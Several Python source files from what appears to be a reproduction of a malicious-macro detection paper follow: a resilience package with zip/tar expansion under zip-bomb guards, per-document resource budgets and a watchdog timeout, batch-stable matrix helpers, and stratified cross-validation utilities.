* :mod:`repro.resilience.budgets` — per-document resource budgets
  (wall-clock deadline, hard per-stage timeout, input size, macro count,
  macro output volume) enforced around each stage;
* :mod:`repro.resilience.recovery` — the worker-failure *policy*
  (:class:`RetryPolicy`): the streaming pool blames the exact task a dead
  worker was holding, retries it with capped exponential backoff, and
  quarantines it when retries run out — no bisection needed;
* :mod:`repro.resilience.quarantine` — the quarantine record shape and the
  ``--quarantine-out`` report;
* :mod:`repro.resilience.chaos` — the fault-injection harness
  (:class:`FaultPlan` + :class:`ChaosStage`) behind tests, benchmarks and
  the hidden ``--chaos`` CLI flag;
* :mod:`repro.resilience.archive` — zip-of-documents expansion for the
  batch CLI commands, with zip-bomb guards.

Every failure, retry, timeout and quarantine lands in the
:mod:`repro.obs` registry (``resilience.*`` / ``budget.*`` / ``archive.*``
counters, plus ``quarantine`` and ``pool.recover`` trace spans).
"""

from repro.resilience.archive import (
    ArchiveBombError,
    ArchiveLimits,
    expand_archive,
    is_plain_archive,
    is_tar_archive,
)
from repro.resilience.budgets import (
    BUDGET_PRESETS,
    DEEP_SA_BUDGET,
    DEFAULT_BUDGET,
    DEFAULT_SA_BUDGET,
    SA_BUDGET_PRESETS,
    STRICT_BUDGET,
    STRICT_SA_BUDGET,
    UNLIMITED_BUDGET,
    Budget,
    BudgetClock,
    SABudget,
    StageTimeout,
    call_with_timeout,
)
from repro.resilience.chaos import ChaosError, ChaosStage, Fault, FaultPlan
from repro.resilience.quarantine import (
    load_replay_targets,
    quarantine_record,
    quarantine_report,
    verify_replay,
)
from repro.resilience.recovery import DEFAULT_RETRY, RetryPolicy

__all__ = [
    "ArchiveBombError",
    "ArchiveLimits",
    "BUDGET_PRESETS",
    "Budget",
    "BudgetClock",
    "ChaosError",
    "ChaosStage",
    "DEEP_SA_BUDGET",
    "DEFAULT_BUDGET",
    "DEFAULT_RETRY",
    "DEFAULT_SA_BUDGET",
    "Fault",
    "FaultPlan",
    "RetryPolicy",
    "SABudget",
    "SA_BUDGET_PRESETS",
    "STRICT_BUDGET",
    "STRICT_SA_BUDGET",
    "StageTimeout",
    "UNLIMITED_BUDGET",
    "call_with_timeout",
    "expand_archive",
    "is_plain_archive",
    "is_tar_archive",
    "load_replay_targets",
    "quarantine_record",
    "quarantine_report",
    "verify_replay",
]
