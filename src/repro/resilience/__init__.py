"""Resilient execution: budgets, crash recovery, quarantine, fault injection.

The paper's pipeline has to survive exactly the inputs attackers craft —
malformed containers, pathological macros, anti-analysis tricks — and the
infrastructure failures that heavy traffic guarantees.  This package makes
:meth:`~repro.engine.AnalysisEngine.run` / ``run_batch`` *total* under both:

* :mod:`repro.resilience.budgets` — per-document resource budgets
  (wall-clock deadline, hard per-stage timeout, input size, macro count,
  macro output volume) enforced around each stage;
* :mod:`repro.resilience.recovery` — ``BrokenProcessPool`` recovery for
  ``run_batch(jobs=N)``: bisect the failed chunk, retry singles with
  capped exponential backoff, quarantine the poison document;
* :mod:`repro.resilience.quarantine` — the quarantine record shape and the
  ``--quarantine-out`` report;
* :mod:`repro.resilience.chaos` — the fault-injection harness
  (:class:`FaultPlan` + :class:`ChaosStage`) behind tests, benchmarks and
  the hidden ``--chaos`` CLI flag;
* :mod:`repro.resilience.archive` — zip-of-documents expansion for the
  batch CLI commands, with zip-bomb guards.

Every failure, retry, timeout and quarantine lands in the
:mod:`repro.obs` registry (``resilience.*`` / ``budget.*`` / ``archive.*``
counters, plus ``quarantine`` and ``pool.recover`` trace spans).
"""

from repro.resilience.archive import (
    ArchiveBombError,
    ArchiveLimits,
    expand_archive,
    is_plain_archive,
)
from repro.resilience.budgets import (
    DEFAULT_BUDGET,
    Budget,
    BudgetClock,
    StageTimeout,
    call_with_timeout,
)
from repro.resilience.chaos import ChaosError, ChaosStage, Fault, FaultPlan
from repro.resilience.quarantine import quarantine_record, quarantine_report
from repro.resilience.recovery import DEFAULT_RETRY, RetryPolicy, run_with_recovery

__all__ = [
    "ArchiveBombError",
    "ArchiveLimits",
    "Budget",
    "BudgetClock",
    "ChaosError",
    "ChaosStage",
    "DEFAULT_BUDGET",
    "DEFAULT_RETRY",
    "Fault",
    "FaultPlan",
    "RetryPolicy",
    "StageTimeout",
    "call_with_timeout",
    "expand_archive",
    "is_plain_archive",
    "quarantine_record",
    "quarantine_report",
    "run_with_recovery",
]
