"""Zip-of-documents expansion for batch commands, with zip-bomb guards.

Malware feeds deliver documents in bulk as plain zip archives — a mailbox
export, a sandbox day's haul — and the ROADMAP has long wanted the batch
CLI commands to expand them inline.  The catch is that an archive is also
the classic amplification vector, so expansion is budgeted before the
first member is decompressed:

* ``max_members`` — refuse archives with more entries than this;
* ``max_member_bytes`` — refuse any member whose *declared* uncompressed
  size exceeds the cap (checked from the central directory, before
  inflating);
* ``max_ratio`` — refuse members whose uncompressed/compressed ratio
  exceeds the cap (the 42.zip signature);
* ``max_total_bytes`` — refuse once the declared total would exceed the
  cap.

Declared sizes can lie, so each member is additionally read through
``ZipFile.open`` in bounded pieces and abandoned the moment the *actual*
bytes cross the member cap.  A tripped guard raises
:class:`ArchiveBombError`; callers turn that into one error record for the
archive instead of expanding it.

An archive is only expanded when it is a *plain* zip — a zip that is not
itself an OOXML document (no ``vbaProject.bin`` / ``[Content_Types].xml``
part), so ``.docm`` files keep flowing to the extractor untouched.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass

from repro.ole.ooxml import is_zip

#: Zip parts that mark the container as an Office document, not an archive.
_OOXML_MARKERS = ("[content_types].xml",)

#: Chunk size for bounded member reads (declared sizes can lie).
_READ_CHUNK = 1024 * 1024


class ArchiveBombError(ValueError):
    """An archive tripped one of the expansion guards."""


@dataclass(frozen=True, slots=True)
class ArchiveLimits:
    """Expansion guards.  ``None`` disables a guard."""

    max_members: int | None = 256
    max_member_bytes: int | None = 64 * 1024 * 1024
    max_total_bytes: int | None = 256 * 1024 * 1024
    max_ratio: float | None = 200.0


DEFAULT_LIMITS = ArchiveLimits()


def is_plain_archive(data: bytes) -> bool:
    """True for a readable zip that is not itself an OOXML document."""
    if not is_zip(data):
        return False
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            names = [name.lower() for name in archive.namelist()]
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError):
        return False
    if any(name.endswith("vbaproject.bin") for name in names):
        return False
    return not any(marker in names for marker in _OOXML_MARKERS)


def expand_archive(
    source_id: str,
    data: bytes,
    limits: ArchiveLimits | None = None,
    metrics=None,
) -> list[tuple[str, bytes]]:
    """Expand one plain zip into ``(member_id, bytes)`` batch inputs.

    Member ids are ``<archive>!<member>`` so every downstream record names
    its provenance.  Directory entries are skipped.  Raises
    :class:`ArchiveBombError` the moment any guard trips — expansion is
    all-or-nothing so a bomb cannot smuggle *some* members through.
    """
    limits = limits if limits is not None else DEFAULT_LIMITS
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError) as error:
        raise ArchiveBombError(f"unreadable archive: {error}") from error
    with archive:
        members = [info for info in archive.infolist() if not info.is_dir()]
        if limits.max_members is not None and len(members) > limits.max_members:
            raise ArchiveBombError(
                f"{len(members)} members exceed the {limits.max_members}-member cap"
            )
        declared_total = 0
        for info in members:
            if (
                limits.max_member_bytes is not None
                and info.file_size > limits.max_member_bytes
            ):
                raise ArchiveBombError(
                    f"member {info.filename!r} declares "
                    f"{info.file_size:,} bytes (cap {limits.max_member_bytes:,})"
                )
            if limits.max_ratio is not None and info.compress_size > 0:
                ratio = info.file_size / info.compress_size
                if ratio > limits.max_ratio:
                    raise ArchiveBombError(
                        f"member {info.filename!r} expands {ratio:.0f}x "
                        f"(cap {limits.max_ratio:.0f}x)"
                    )
            declared_total += info.file_size
            if (
                limits.max_total_bytes is not None
                and declared_total > limits.max_total_bytes
            ):
                raise ArchiveBombError(
                    f"declared total {declared_total:,} bytes exceeds the "
                    f"{limits.max_total_bytes:,}-byte cap"
                )
        expanded: list[tuple[str, bytes]] = []
        for info in members:
            expanded.append(
                (f"{source_id}!{info.filename}", _read_bounded(archive, info, limits))
            )
    if metrics is not None and metrics.enabled:
        metrics.counter("archive.expanded").inc()
        metrics.counter("archive.members").inc(len(expanded))
    return expanded


def _read_bounded(
    archive: zipfile.ZipFile, info: zipfile.ZipInfo, limits: ArchiveLimits
) -> bytes:
    """Read one member, trusting actual bytes over the declared size."""
    cap = limits.max_member_bytes
    pieces: list[bytes] = []
    total = 0
    try:
        with archive.open(info) as handle:
            while True:
                piece = handle.read(_READ_CHUNK)
                if not piece:
                    break
                total += len(piece)
                if cap is not None and total > cap:
                    raise ArchiveBombError(
                        f"member {info.filename!r} produced more than "
                        f"{cap:,} bytes (declared {info.file_size:,})"
                    )
                pieces.append(piece)
    except ArchiveBombError:
        raise
    except Exception as error:  # CRC errors, truncated streams, bad methods
        raise ArchiveBombError(
            f"unreadable member {info.filename!r}: {error}"
        ) from error
    return b"".join(pieces)
