"""Archive-of-documents expansion for batch commands, with bomb guards.

Malware feeds deliver documents in bulk as plain archives — a mailbox
export as a zip, a sandbox day's haul as a ``.tar.gz`` — and the ROADMAP
has long wanted the batch CLI commands to expand them inline.  The catch
is that an archive is also the classic amplification vector, so expansion
is budgeted before the first member is decompressed:

* ``max_members`` — refuse archives with more entries than this (the cap
  also applies *cumulatively* across nested expansion);
* ``max_member_bytes`` — refuse any member whose *declared* uncompressed
  size exceeds the cap (checked from the central directory / tar headers,
  before inflating);
* ``max_ratio`` — refuse zip members whose uncompressed/compressed ratio
  exceeds the cap (the 42.zip signature); for gzip-compressed tars the
  same cap applies to the whole archive's declared/compressed ratio;
* ``max_total_bytes`` — refuse once the declared total (summed across
  nesting levels) would exceed the cap.

Declared sizes can lie, so each member is additionally read in bounded
pieces and abandoned the moment the *actual* bytes cross the member cap.
A tripped guard raises :class:`ArchiveBombError`; callers turn that into
one error record for the archive instead of expanding it.

A member that is itself a plain archive (zip-in-zip, tar-in-zip, …) is
expanded in place — **one level deep** by default (``max_depth``); deeper
archives pass through as ordinary inputs.  All guards share one budget
across the whole nested expansion, so a bomb cannot hide behind a level
of wrapping.

A zip is only expanded when it is *plain* — not itself an OOXML document
(no ``vbaProject.bin`` / ``[Content_Types].xml`` part) — so ``.docm``
files keep flowing to the extractor untouched, at any nesting level.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from dataclasses import dataclass

from repro.ole.ooxml import is_zip

#: Zip parts that mark the container as an Office document, not an archive.
_OOXML_MARKERS = ("[content_types].xml",)

#: Chunk size for bounded member reads (declared sizes can lie).
_READ_CHUNK = 1024 * 1024

_GZIP_MAGIC = b"\x1f\x8b"
#: Offset of the ``ustar`` magic in a POSIX tar header block.
_TAR_MAGIC_OFFSET = 257


class ArchiveBombError(ValueError):
    """An archive tripped one of the expansion guards."""


@dataclass(frozen=True, slots=True)
class ArchiveLimits:
    """Expansion guards.  ``None`` disables a guard."""

    max_members: int | None = 256
    max_member_bytes: int | None = 64 * 1024 * 1024
    max_total_bytes: int | None = 256 * 1024 * 1024
    max_ratio: float | None = 200.0


DEFAULT_LIMITS = ArchiveLimits()


def is_plain_archive(data: bytes) -> bool:
    """True for a readable zip that is not itself an OOXML document."""
    if not is_zip(data):
        return False
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            names = [name.lower() for name in archive.namelist()]
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError):
        return False
    if any(name.endswith("vbaproject.bin") for name in names):
        return False
    return not any(marker in names for marker in _OOXML_MARKERS)


def is_tar_archive(data: bytes) -> bool:
    """True for a readable (optionally gzip-compressed) POSIX tar feed.

    Old pre-POSIX tars carry no magic and are not recognized — feeds are
    modern ``tar``/``tar.gz`` output in practice.
    """
    if (
        data[:2] != _GZIP_MAGIC
        and data[_TAR_MAGIC_OFFSET : _TAR_MAGIC_OFFSET + 5] != b"ustar"
    ):
        return False
    try:
        with tarfile.open(fileobj=io.BytesIO(data), mode="r:*"):
            return True
    except (tarfile.TarError, OSError, EOFError, ValueError):
        return False


def expand_archive(
    source_id: str,
    data: bytes,
    limits: ArchiveLimits | None = None,
    metrics=None,
    *,
    max_depth: int = 1,
) -> list[tuple[str, bytes]]:
    """Expand one plain archive into ``(member_id, bytes)`` batch inputs.

    Handles plain zips and (optionally gzipped) tars.  Member ids are
    ``<archive>!<member>`` so every downstream record names its
    provenance; a nested archive's members get a second ``!`` segment.
    Directory entries are skipped.  Members that are themselves plain
    archives are expanded in place up to ``max_depth`` levels below the
    outer archive, against the *same* cumulative member/byte budget.
    Raises :class:`ArchiveBombError` the moment any guard trips —
    expansion is all-or-nothing so a bomb cannot smuggle *some* members
    through.
    """
    limits = limits if limits is not None else DEFAULT_LIMITS
    totals = {"members": 0, "bytes": 0, "nested_archives": 0, "nested_members": 0}
    expanded = _expand_any(source_id, data, limits, 0, max_depth, totals)
    if metrics is not None and metrics.enabled:
        metrics.counter("archive.expanded").inc()
        metrics.counter("archive.members").inc(len(expanded))
        if totals["nested_archives"]:
            metrics.counter("archive.nested_expanded").inc(
                totals["nested_archives"]
            )
            metrics.counter("archive.nested_members").inc(
                totals["nested_members"]
            )
    return expanded


def _expand_any(
    source_id: str,
    data: bytes,
    limits: ArchiveLimits,
    depth: int,
    max_depth: int,
    totals: dict,
) -> list[tuple[str, bytes]]:
    """Dispatch one archive by format, then recurse into archive members."""
    if is_zip(data):
        members = _expand_zip(source_id, data, limits, totals)
    else:
        members = _expand_tar(source_id, data, limits, totals)
    if depth >= max_depth:
        return members
    expanded: list[tuple[str, bytes]] = []
    for member_id, member_data in members:
        if is_plain_archive(member_data) or is_tar_archive(member_data):
            nested = _expand_any(
                member_id, member_data, limits, depth + 1, max_depth, totals
            )
            totals["nested_archives"] += 1
            totals["nested_members"] += len(nested)
            expanded.extend(nested)
        else:
            expanded.append((member_id, member_data))
    return expanded


def _check_member_budget(count: int, limits: ArchiveLimits, totals: dict) -> None:
    """Per-archive and whole-expansion member caps."""
    if limits.max_members is None:
        return
    if count > limits.max_members:
        raise ArchiveBombError(
            f"{count} members exceed the {limits.max_members}-member cap"
        )
    totals["members"] += count
    if totals["members"] > limits.max_members:
        raise ArchiveBombError(
            f"{totals['members']} members across nested expansion exceed "
            f"the {limits.max_members}-member cap"
        )


def _charge_declared(size: int, limits: ArchiveLimits, totals: dict) -> None:
    """Charge one member's declared size against the whole-expansion cap."""
    totals["bytes"] += size
    if (
        limits.max_total_bytes is not None
        and totals["bytes"] > limits.max_total_bytes
    ):
        raise ArchiveBombError(
            f"declared total {totals['bytes']:,} bytes exceeds the "
            f"{limits.max_total_bytes:,}-byte cap"
        )


def _expand_zip(
    source_id: str, data: bytes, limits: ArchiveLimits, totals: dict
) -> list[tuple[str, bytes]]:
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError) as error:
        raise ArchiveBombError(f"unreadable archive: {error}") from error
    with archive:
        members = [info for info in archive.infolist() if not info.is_dir()]
        _check_member_budget(len(members), limits, totals)
        for info in members:
            if (
                limits.max_member_bytes is not None
                and info.file_size > limits.max_member_bytes
            ):
                raise ArchiveBombError(
                    f"member {info.filename!r} declares "
                    f"{info.file_size:,} bytes (cap {limits.max_member_bytes:,})"
                )
            if limits.max_ratio is not None and info.compress_size > 0:
                ratio = info.file_size / info.compress_size
                if ratio > limits.max_ratio:
                    raise ArchiveBombError(
                        f"member {info.filename!r} expands {ratio:.0f}x "
                        f"(cap {limits.max_ratio:.0f}x)"
                    )
            _charge_declared(info.file_size, limits, totals)
        expanded: list[tuple[str, bytes]] = []
        for info in members:
            with archive.open(info) as handle:
                payload = _read_bounded(
                    handle, info.filename, info.file_size, limits
                )
            expanded.append((f"{source_id}!{info.filename}", payload))
    return expanded


def _expand_tar(
    source_id: str, data: bytes, limits: ArchiveLimits, totals: dict
) -> list[tuple[str, bytes]]:
    try:
        archive = tarfile.open(fileobj=io.BytesIO(data), mode="r:*")
    except (tarfile.TarError, OSError, EOFError, ValueError) as error:
        raise ArchiveBombError(f"unreadable archive: {error}") from error
    with archive:
        try:
            members = [info for info in archive.getmembers() if info.isfile()]
        except (tarfile.TarError, OSError, EOFError) as error:
            raise ArchiveBombError(f"unreadable archive: {error}") from error
        _check_member_budget(len(members), limits, totals)
        declared = 0
        for info in members:
            if (
                limits.max_member_bytes is not None
                and info.size > limits.max_member_bytes
            ):
                raise ArchiveBombError(
                    f"member {info.name!r} declares "
                    f"{info.size:,} bytes (cap {limits.max_member_bytes:,})"
                )
            declared += info.size
            _charge_declared(info.size, limits, totals)
        # tar compresses the whole stream, so the ratio guard applies to
        # the archive as a unit (per-member compressed sizes don't exist).
        if limits.max_ratio is not None and data[:2] == _GZIP_MAGIC and data:
            ratio = declared / len(data)
            if ratio > limits.max_ratio:
                raise ArchiveBombError(
                    f"archive expands {ratio:.0f}x "
                    f"(cap {limits.max_ratio:.0f}x)"
                )
        expanded = []
        for info in members:
            handle = archive.extractfile(info)
            if handle is None:
                continue
            with handle:
                payload = _read_bounded(handle, info.name, info.size, limits)
            expanded.append((f"{source_id}!{info.name}", payload))
    return expanded


def _read_bounded(
    handle, name: str, declared: int, limits: ArchiveLimits
) -> bytes:
    """Read one member stream, trusting actual bytes over the declared size."""
    cap = limits.max_member_bytes
    pieces: list[bytes] = []
    total = 0
    try:
        while True:
            piece = handle.read(_READ_CHUNK)
            if not piece:
                break
            total += len(piece)
            if cap is not None and total > cap:
                raise ArchiveBombError(
                    f"member {name!r} produced more than "
                    f"{cap:,} bytes (declared {declared:,})"
                )
            pieces.append(piece)
    except ArchiveBombError:
        raise
    except Exception as error:  # CRC errors, truncated streams, bad methods
        raise ArchiveBombError(f"unreadable member {name!r}: {error}") from error
    return b"".join(pieces)
