"""Per-document resource budgets enforced around each pipeline stage.

A :class:`Budget` bounds what one document may cost the engine:

* ``wall_clock_s`` — a *cooperative* per-document deadline.  The engine
  checks it between stages (two ``perf_counter`` reads per stage, so the
  default-on cost is unmeasurable); a document that overruns is marked
  degraded and its remaining stages are skipped.
* ``stage_timeout_s`` — a *hard* per-stage timeout.  When set, each stage
  runs on a watchdog thread and a stage that hangs (hostile input, chaos
  fault) is abandoned after the timeout.  Off by default: it costs one
  thread spawn per stage and is meant for untrusted-input deployments,
  pool workers, and the chaos harness.
* ``max_input_bytes`` — documents larger than this are refused before the
  first stage runs.
* ``max_macro_count`` / ``max_output_bytes`` — caps on what the stages may
  *produce*: surplus macros (or macros past the total source-character
  budget) are marked ``filtered="budget"`` and their sources dropped, so a
  decompression bomb inside a container cannot balloon the record.

Budgets degrade, never raise: every violation becomes a ``budget`` error
diagnostic plus the record's ``degraded`` marker, and bumps a ``budget.*``
counter in the metrics registry.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, replace


class StageTimeout(Exception):
    """A stage exceeded its hard per-stage timeout and was abandoned."""


@dataclass(frozen=True, slots=True)
class Budget:
    """Resource limits for analyzing one document.  ``None`` disables a limit."""

    #: cooperative per-document deadline, checked between stages (seconds)
    wall_clock_s: float | None = 30.0
    #: hard per-stage watchdog timeout (seconds); off by default
    stage_timeout_s: float | None = None
    #: refuse inputs larger than this before the first stage (bytes)
    max_input_bytes: int | None = 64 * 1024 * 1024
    #: cap on extracted/produced macros per document
    max_macro_count: int | None = 512
    #: cap on total macro source characters a document's stages may emit
    max_output_bytes: int | None = 16 * 1024 * 1024

    def clock(self) -> "BudgetClock":
        return BudgetClock(self)


#: The engine's default: size/volume caps on, cooperative deadline on,
#: hard stage watchdog off (opt in for untrusted-input deployments).
DEFAULT_BUDGET = Budget()

#: Untrusted-input preset: tighter deadlines, the hard per-stage watchdog
#: on, and quartered size/volume caps.  For mail gateways and sandboxes
#: where a hostile document hanging a worker costs more than a thread
#: spawn per stage.
STRICT_BUDGET = Budget(
    wall_clock_s=10.0,
    stage_timeout_s=5.0,
    max_input_bytes=16 * 1024 * 1024,
    max_macro_count=128,
    max_output_bytes=4 * 1024 * 1024,
)

#: Everything disabled — benchmarking and trusted-corpus runs only.
UNLIMITED_BUDGET = Budget(
    wall_clock_s=None,
    stage_timeout_s=None,
    max_input_bytes=None,
    max_macro_count=None,
    max_output_bytes=None,
)

#: Named presets behind the CLI ``--budget`` flag.
BUDGET_PRESETS: dict[str, Budget] = {
    "default": DEFAULT_BUDGET,
    "strict": STRICT_BUDGET,
    "off": UNLIMITED_BUDGET,
}


@dataclass(frozen=True, slots=True)
class SABudget:
    """Resource limits for one static-analysis pass (:mod:`repro.sa`).

    The abstract interpreter is *total*: when any limit trips it abandons
    precision (remaining work folds to ⊤), records ``budget_exhausted`` on
    the result, and returns whatever strings it had recovered — it never
    raises and never runs unbounded.
    """

    #: abstract-interpretation steps (statements + expression nodes evaluated)
    max_steps: int = 200_000
    #: concrete iterations a single loop may execute before it is havoced
    max_loop_iterations: int = 4_096
    #: bounded inlining depth for module-local Function calls
    max_call_depth: int = 8
    #: longest string value the domain will materialize (characters)
    max_string_length: int = 65_536
    #: cap on recovered strings reported per macro
    max_strings: int = 512
    #: recovered strings shorter than this are noise and dropped
    min_string_length: int = 4


#: The engine's default static-analysis budget.
DEFAULT_SA_BUDGET = SABudget()

#: Tight preset for untrusted feeds — pairs with :data:`STRICT_BUDGET`.
STRICT_SA_BUDGET = SABudget(
    max_steps=50_000,
    max_loop_iterations=1_024,
    max_call_depth=4,
    max_string_length=16_384,
    max_strings=256,
)

#: Patient preset for forensics runs where wall-clock does not matter.
DEEP_SA_BUDGET = SABudget(
    max_steps=2_000_000,
    max_loop_iterations=65_536,
    max_call_depth=16,
    max_string_length=1_048_576,
    max_strings=4_096,
)

#: Named presets behind the CLI ``--sa-budget`` flag.
SA_BUDGET_PRESETS: dict[str, SABudget] = {
    "default": DEFAULT_SA_BUDGET,
    "strict": STRICT_SA_BUDGET,
    "deep": DEEP_SA_BUDGET,
}


def clip_budget(budget: Budget | None, deadline_s: float) -> Budget:
    """The tighter of a standing budget and a per-request deadline.

    Serving front-ends carry an absolute deadline per request; the engine
    enforces it by analyzing the document under a budget whose wall clock
    is clipped to the seconds remaining.  Because
    :meth:`BudgetClock.stage_timeout` further clips the per-stage watchdog
    to the remaining wall clock, a request deadline shorter than a
    configured ``--stage-timeout`` wins automatically.  The watchdog is
    always armed under a deadline (a cooperative wall clock alone cannot
    interrupt a hung stage, and "408 on expiry" is a promise).
    """
    deadline_s = max(0.001, deadline_s)
    if budget is None:
        return Budget(
            wall_clock_s=deadline_s,
            stage_timeout_s=deadline_s,
            max_input_bytes=None,
            max_macro_count=None,
            max_output_bytes=None,
        )
    stage = budget.stage_timeout_s
    stage = deadline_s if stage is None else min(stage, deadline_s)
    wall = budget.wall_clock_s
    wall = deadline_s if wall is None else min(wall, deadline_s)
    if wall == budget.wall_clock_s and stage == budget.stage_timeout_s:
        return budget
    return replace(budget, wall_clock_s=wall, stage_timeout_s=stage)


class BudgetClock:
    """One document's countdown against its budget's wall clock."""

    __slots__ = ("budget", "started_at")

    def __init__(self, budget: Budget) -> None:
        self.budget = budget
        self.started_at = time.perf_counter()

    def elapsed(self) -> float:
        return time.perf_counter() - self.started_at

    def expired(self) -> bool:
        limit = self.budget.wall_clock_s
        return limit is not None and self.elapsed() > limit

    def stage_timeout(self) -> float | None:
        """The hard timeout for the next stage: the per-stage cap, further
        clipped to whatever wall-clock budget remains."""
        stage = self.budget.stage_timeout_s
        if stage is None:
            return None
        wall = self.budget.wall_clock_s
        if wall is None:
            return stage
        return max(0.001, min(stage, wall - self.elapsed()))


def call_with_timeout(fn, timeout: float):
    """Run ``fn()`` on a daemon watchdog thread, waiting ``timeout`` seconds.

    Returns ``fn``'s result, re-raises its exception, or raises
    :class:`StageTimeout` when the deadline passes first.  On timeout the
    thread is *abandoned*, not killed — Python offers no safe preemption —
    so callers must stop trusting (and stop mutating alongside) whatever
    state the runaway callable was working on.
    """
    outcome: list = [None, None]  # [result, exception]
    done = threading.Event()

    def target() -> None:
        try:
            outcome[0] = fn()
        except BaseException as error:  # noqa: BLE001 - ferried to the caller
            outcome[1] = error
        finally:
            done.set()

    worker = threading.Thread(target=target, daemon=True, name="stage-watchdog")
    worker.start()
    if not done.wait(timeout):
        raise StageTimeout(f"no result within {timeout:.3f}s")
    if outcome[1] is not None:
        raise outcome[1]
    return outcome[0]
