"""Batch-size-invariant linear algebra for the inference paths.

``numpy``'s ``@`` dispatches to the BLAS GEMM/GEMV kernels, which pick
different blocking strategies for different operand shapes — the same
row scored inside a ``(1, d)`` and a ``(n, d)`` product can differ in the
last few ulps.  That is invisible to model quality but fatal to the
engine's parity contract: a macro's score must be *bit-identical*
whether it flows through :meth:`ClassifyStage.process_macro` (batch of
one) or a document/stream micro-batch.

``np.einsum`` without ``optimize`` runs numpy's own C sum-of-products
loop in a fixed per-element reduction order, so row ``i`` of the result
depends only on row ``i`` of the left operand — any batch size, any
slicing, same bits.  The predict paths of every matmul-based classifier
(SVM, MLP, LDA, BNB) route through these helpers; training keeps plain
``@`` where it never feeds a per-row score.
"""

from __future__ import annotations

import numpy as np


def row_stable_matmul(A: np.ndarray, B: np.ndarray) -> np.ndarray:
    """``A @ B`` with rows independent of ``A``'s batch size."""
    return np.einsum("ij,jk->ik", A, B, optimize=False)


def row_stable_matvec(A: np.ndarray, v: np.ndarray) -> np.ndarray:
    """``A @ v`` with entries independent of ``A``'s batch size."""
    return np.einsum("ij,j->i", A, v, optimize=False)
