"""Cross-validation utilities: the paper evaluates with 10-fold stratified CV."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import numpy as np

from repro.ml.metrics import classification_report, roc_auc_score


class StratifiedKFold:
    """K-fold splitter preserving per-class proportions in every fold."""

    def __init__(
        self, n_splits: int = 10, shuffle: bool = True, random_state: int | None = 0
    ) -> None:
        if n_splits < 2:
            raise ValueError("n_splits must be >= 2")
        self.n_splits = n_splits
        self.shuffle = shuffle
        self.random_state = random_state

    def split(self, X, y) -> Iterator[tuple[np.ndarray, np.ndarray]]:
        y = np.asarray(y)
        n_samples = y.shape[0]
        rng = np.random.default_rng(self.random_state)

        # Assign each sample a fold id, stratified per class.
        fold_of = np.empty(n_samples, dtype=np.int64)
        for label in np.unique(y):
            indices = np.flatnonzero(y == label)
            if indices.size < self.n_splits:
                raise ValueError(
                    f"class {label!r} has only {indices.size} samples for "
                    f"{self.n_splits} folds"
                )
            if self.shuffle:
                rng.shuffle(indices)
            folds = np.arange(indices.size) % self.n_splits
            fold_of[indices] = folds

        all_indices = np.arange(n_samples)
        for fold in range(self.n_splits):
            test_mask = fold_of == fold
            yield all_indices[~test_mask], all_indices[test_mask]


def train_test_split(
    X, y, test_size: float = 0.25, random_state: int | None = 0, stratify: bool = True
):
    """Split arrays into train and test subsets."""
    X = np.asarray(X)
    y = np.asarray(y)
    if not 0.0 < test_size < 1.0:
        raise ValueError("test_size must be in (0, 1)")
    rng = np.random.default_rng(random_state)
    n_samples = y.shape[0]
    test_mask = np.zeros(n_samples, dtype=bool)
    if stratify:
        for label in np.unique(y):
            indices = np.flatnonzero(y == label)
            rng.shuffle(indices)
            n_test = max(1, int(round(indices.size * test_size)))
            test_mask[indices[:n_test]] = True
    else:
        indices = rng.permutation(n_samples)
        n_test = max(1, int(round(n_samples * test_size)))
        test_mask[indices[:n_test]] = True
    return X[~test_mask], X[test_mask], y[~test_mask], y[test_mask]


@dataclass
class CrossValidationResult:
    """Aggregated 10-fold CV outcome for one classifier.

    ``pooled_*`` concatenates all folds' test predictions, which is how the
    experiment layer computes the single Table V row and the Fig. 7 ROC.
    """

    fold_reports: list[dict[str, float]] = field(default_factory=list)
    pooled_true: np.ndarray = field(default_factory=lambda: np.empty(0))
    pooled_pred: np.ndarray = field(default_factory=lambda: np.empty(0))
    pooled_scores: np.ndarray = field(default_factory=lambda: np.empty(0))

    def mean_metric(self, name: str) -> float:
        return float(np.mean([report[name] for report in self.fold_reports]))

    @property
    def pooled_report(self) -> dict[str, float]:
        return classification_report(self.pooled_true, self.pooled_pred)

    @property
    def pooled_auc(self) -> float:
        return roc_auc_score(self.pooled_true, self.pooled_scores)


def cross_validate(
    estimator_factory,
    X,
    y,
    n_splits: int = 10,
    random_state: int | None = 0,
    preprocessor_factory=None,
) -> CrossValidationResult:
    """Run stratified K-fold CV, refitting a fresh estimator per fold.

    Args:
        estimator_factory: zero-argument callable building an unfitted
            classifier (a fresh one per fold, so folds are independent).
        preprocessor_factory: optional zero-argument callable building a
            scaler with fit/transform, fitted on each fold's training split
            only (no test leakage).
    """
    X = np.asarray(X, dtype=np.float64)
    y = np.asarray(y)
    splitter = StratifiedKFold(n_splits=n_splits, random_state=random_state)
    result = CrossValidationResult()
    pooled_true: list[np.ndarray] = []
    pooled_pred: list[np.ndarray] = []
    pooled_scores: list[np.ndarray] = []
    for train_index, test_index in splitter.split(X, y):
        X_train, X_test = X[train_index], X[test_index]
        y_train, y_test = y[train_index], y[test_index]
        if preprocessor_factory is not None:
            preprocessor = preprocessor_factory()
            X_train = preprocessor.fit_transform(X_train)
            X_test = preprocessor.transform(X_test)
        model = estimator_factory()
        model.fit(X_train, y_train)
        y_pred = model.predict(X_test)
        scores = model.decision_scores(X_test)
        result.fold_reports.append(classification_report(y_test, y_pred))
        pooled_true.append(y_test)
        pooled_pred.append(y_pred)
        pooled_scores.append(np.asarray(scores, dtype=np.float64))
    result.pooled_true = np.concatenate(pooled_true)
    result.pooled_pred = np.concatenate(pooled_pred)
    result.pooled_scores = np.concatenate(pooled_scores)
    return result
