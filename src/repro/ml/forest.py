"""Random Forest (Breiman-style bagging of CART trees).

One of the paper's five classifiers; Table V reports RF achieving the best
precision (0.982) on the V feature set.
"""

from __future__ import annotations

import numpy as np

